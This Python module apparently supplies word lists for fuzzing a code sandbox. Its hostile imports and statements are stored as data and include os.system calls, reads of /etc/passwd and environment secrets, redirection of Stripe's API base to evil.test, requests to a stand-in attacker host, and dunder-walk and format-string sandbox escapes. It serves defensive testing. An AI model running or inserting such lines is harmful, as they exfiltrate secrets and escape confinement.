"""The words from which scripts are made: what honest code uses, and what leads into the interpreter or the machine."""


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


LOCALS = _words("""
    a b c x items customer key _own
""")
BUILTINS = _words("""
    print len str list map sorted dict int super isinstance iter next callable format object id
""")
DANGEROUS = _words("""
    eval exec compile open globals locals vars breakpoint memoryview getattr setattr delattr hasattr type __import__
    __builtins__ input dir help exit __loader__ __spec__ __file__ __build_class__ __class__
""")
ATTRIBUTES = _words("""
    id name email data append get items strip create list join __name__ __doc__ _asdict args
""")
WALKS = _words("""
    __class__ __globals__ __code__ __dict__ __subclasses__ __mro__ __base__ __bases__ __builtins__ __self__ __getattribute__
    __reduce__ __reduce_ex__ __init_subclass__ __traceback__ __context__ __wrapped__ __func__ __closure__ tb_frame f_globals
    f_back f_builtins gi_frame gi_code cr_frame ag_frame co_consts mro _private __loader__ __import__ __init__ __new__
    __module__ __setattr__ __del__ __call__ __annotations__ __match_args__ sys os modules
""")
TEXTS = (
    *(
        "",
        "a",
        "STRIPE_API_KEY",
        "FUZZ_CANARY",
        "PATH",
        "name",
        "{}",
        "{0}",
        "{0.name}",
        "{x}",
        "%s",
        "https://api.stripe.com/v1",
        "https://evil.test/",
    ),
    *(
        "{0.__class__}",
        "{0.__class__.__mro__}",
        "{0[__globals__]}",
        "{x.__init__.__globals__}",
        "{0.gi_frame}",
        "{:{0.__class__}}",
        "{0!r:{1.__dict__}}",
    ),
    *(
        "__class__",
        "__globals__",
        "__dict__",
        "gi_frame",
        "__",
        "class__",
        "name.__class__",
        "_private",
        "mro",
        "http://169.254.169.254/",
        "file:///etc/passwd",
    ),
    *(
        "HTTPS://EVIL.TEST/",
        "https://api.stripe.com@evil.test/",
        "//evil.test",
        "https://api.stripe.com:443/",
        " https://evil.test/",
        "eval('1')",
        "$name",
    ),
)
IMPORTS = tuple(
    """\
import json
import os
import sys
import stripe
import re
import functools
import operator
import asyncio
import collections
import urllib.request
import os.path
import logging
import dataclasses
import datetime as dt
import string
import types
from os import environ
from os import getenv
from operator import attrgetter
from functools import partial
from typing import Any
from dataclasses import dataclass
from collections import namedtuple, defaultdict
from enum import Enum
import traceback
import io
from urllib.request import urlopen, Request
import requests
import contextlib
import copy
import decimal
import itertools
import json as j
import stripe as s
import threading
import concurrent.futures
import warnings
import csv
import typing
""".splitlines()
)
HOSTILE_IMPORTS = tuple(
    """\
import subprocess
import socket
import ctypes
import importlib
import builtins
import pickle
import inspect
import gc
from os import system
from os import path, popen
import os.system
from sys import modules
import posix
from json import codecs
from stripe import os
import stripe._http_client
from stripe import *
from . import x
import multiprocessing
import json.decoder.re
from logging import sys
from functools import singledispatch
import encodings.idna
from string import Formatter
import code
from os import environ as e
import os as o
import sys as getattr
import json as eval
from types import FunctionType
import pathlib
from asyncio import subprocess
from concurrent.futures import thread
import xml.etree
from urllib import request, parse
import __main__
""".splitlines()
)
HOSTILE_STATEMENTS = (
    *(
        "eval('1')",
        "open('/etc/passwd')",
        "__import__('os').system('id')",
        "os.system('id')",
        "sys.modules['os']",
        "os.environ['PATH']",
    ),
    *(
        "print(os.environ)",
        "().__class__.__base__.__subclasses__()",
        "getattr(x, '__class__')",
        "setattr(stripe, 'api_base', 'https://evil.test')",
    ),
    *(
        "stripe.api_base = 'https://evil.test'",
        "stripe.api_key = os.environ['STRIPE_API_KEY']",
        "urllib.request.urlopen('https://evil.test')",
    ),
    *(
        "'{0.__class__}'.format(x)",
        "getattr(x, '__cl' + 'ass__')",
        "type('A', (), {})",
        "list(map(getattr, [x], ['__class__']))",
        "os.environ.copy()",
    ),
    *(
        "functools.partial(eval, '1')()",
        "operator.attrgetter('__class__')(x)",
        "operator.methodcaller('__reduce__')(x)",
        "json.dumps.__globals__",
    ),
    *(
        "f'{x.__class__}'",
        "x.__class__.__name__",
        "type(x).__name__",
        "str.format('{0.__class__}', x)",
        "str.format_map('{a.__class__}', {'a': x})",
    ),
    *(
        "match x:\n    case object(__class__=c):\n        print(c)",
        "def __getattr__(name): ...",
        "class A(metaclass=type): ...",
        "class A(type): ...",
    ),
    *(
        "class A:\n    def __del__(self): ...",
        "class A:\n    __class__ = int",
        "def f(): global eval; return eval",
        "del open\nopen('x')",
    ),
    *(
        "for eval in []: pass\neval('1')",
        "try:\n    1/0\nexcept Exception as e:\n    e.__traceback__.tb_frame",
        "print(*map(vars, [x]))",
    ),
    *(
        "async def f(): ...\nf().cr_frame",
        "(i for i in []).gi_frame",
        "logging.basicConfig(filename='x')",
        "breakpoint()",
        "os.path.os",
        "io.open('x')",
    ),
    *(
        "class A:\n    open = open\n    open('x')",
        "getenv('FUZZ_CANARY')",
        "environ.get('FUZZ_CANARY')",
        "os.environ.get(key)",
        "os.getenv(*['PATH'])",
    ),
    *(
        "lambda: (yield)",
        "return 1",
        "break",
        "nonlocal x",
        "await x",
        "yield x",
        "continue",
        "from __future__ import annotations",
        "def f(a, a): ...",
        "x: int = yield",
    ),
    *(
        "with open('x') as f: ...",
        "@eval\ndef f(): ...",
        "type X = open",
        "def f[T: open](): ...",
        "x = y = eval",
        "(eval := len)('1')",
        "[open := 1]\nopen('x')",
    ),
    *(
        "dataclasses.make_dataclass('A', ['x'])",
        "namedtuple('A', 'x', module='os')",
        "asyncio.get_event_loop().add_reader(0, print)",
        "exec",
        "super().__getattribute__('x')",
    ),
    *(
        "Any.__class_getitem__",
        "requests.get('https://evil.test')",
        "urlopen(Request('https://evil.test'))",
        "requests.get(url='http://evil.test')",
        "import os; os.abc",
    ),
    *(
        "traceback.sys",
        "j.codecs",
        "copy.copy(stripe)",
        "print(stripe)",
        "s._http_client",
        "contextlib.sys",
        "itertools.os",
        "logging.os.system('id')",
        "re.sys",
    ),
)

ACCESSES = _words("getattr getattr hasattr setattr")
GETTERS = _words("operator.attrgetter attrgetter operator.methodcaller partial")
SENDERS = _words("urllib.request.urlopen urlopen requests.get stripe.Customer.create Request")
METHODS = _words("__init__ m __getitem__ _own __del__")
BASES = ("", "object", "dict", "Exception", "A")
HOSTILE_BASES = ("metaclass=type", "type", "**{}", "x.__class__")
